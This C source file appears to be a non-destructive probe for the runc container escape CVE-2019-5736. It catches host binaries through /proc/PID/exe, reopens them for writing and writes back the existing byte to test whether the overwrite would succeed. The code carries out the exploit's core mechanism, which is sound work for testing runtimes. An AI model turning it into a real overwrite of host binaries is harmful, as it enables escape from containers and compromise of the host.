// The CVE-2019-5736 attacker, run inside a container (static, no libc of the image needed):
//
//   exe-attack SECONDS
//
// For SECONDS it watches /proc for processes whose executable does not come from the
// container's root filesystem — a host binary entering the container, such as a runtime or a
// shim that a "#!/proc/self/exe" program made run itself in here — and holds an O_PATH fd to
// each one's /proc/PID/exe. Then, once each such process is gone, it tries to reopen the held
// file for writing and to write to it, as the exploit does to overwrite the host binary. It
// changes nothing: the one byte it writes is the byte read from the same place. It prints one
// line per caught process, "caught PID DEV:INO [opened, ]write: OK" or the error, and
// "caught nothing" if none came, then "done". Exit 0 unless it could not run at all.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

struct caught {
  int pid, fd;
  struct stat st;
};

int main(int argc, char** argv) {
  if (argc != 2) {
    fprintf(stderr, "usage: exe-attack SECONDS\n");
    return 2;
  }
  const double deadline = now() + atof(argv[1]);
  struct stat root;
  if (stat("/", &root) < 0) return perror("stat /"), 1;
  static unsigned char seen[1 << 22];
  struct caught got[64];
  int n = 0;
  const int self = getpid();
  printf("watching\n");
  fflush(stdout);
  while (now() < deadline && n < 64) {
    DIR* d = opendir("/proc");
    if (!d) return perror("opendir /proc"), 1;
    struct dirent* e;
    while ((e = readdir(d)) != NULL && n < 64) {
      int pid = atoi(e->d_name);
      if (pid <= 0 || pid == self || pid >= (int)sizeof seen || seen[pid]) continue;
      char path[64];
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      int fd = open(path, O_PATH | O_CLOEXEC);
      if (fd < 0) continue;  // not dumpable (yet), or gone: look again next round
      struct stat st;
      if (fstat(fd, &st) < 0 || st.st_dev == root.st_dev) {
        // One of the container's own programs (or gone): not interesting, ever.
        seen[pid] = 1;
        close(fd);
        continue;
      }
      seen[pid] = 1;
      got[n].pid = pid;
      got[n].fd = fd;
      got[n].st = st;
      ++n;
    }
    closedir(d);
  }
  if (n == 0) printf("caught nothing\n");
  for (int i = 0; i < n; ++i) {
    // The exploit waits for the binary to be free (no process running it), then writes.
    for (int k = 0; k < 200 && kill(got[i].pid, 0) == 0; ++k) usleep(10000);
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", got[i].fd);
    // Opening for writing is the first step; a sealed memfd (runc's copy of itself) opens but
    // refuses the write, so the write is tried too — of the byte that is already there.
    const char* verdict = "OK";
    int w = open(path, O_RDWR | O_CLOEXEC);
    if (w < 0) {
      verdict = strerror(errno);
    } else {
      unsigned char b;
      if (pread(w, &b, 1, 0) != 1 || pwrite(w, &b, 1, 0) != 1) verdict = strerror(errno);
      close(w);
    }
    printf("caught %d %lu:%lu %swrite: %s\n", got[i].pid, (unsigned long)got[i].st.st_dev,
           (unsigned long)got[i].st.st_ino, w >= 0 ? "opened, " : "", verdict);
  }
  printf("done\n");
  return 0;
}
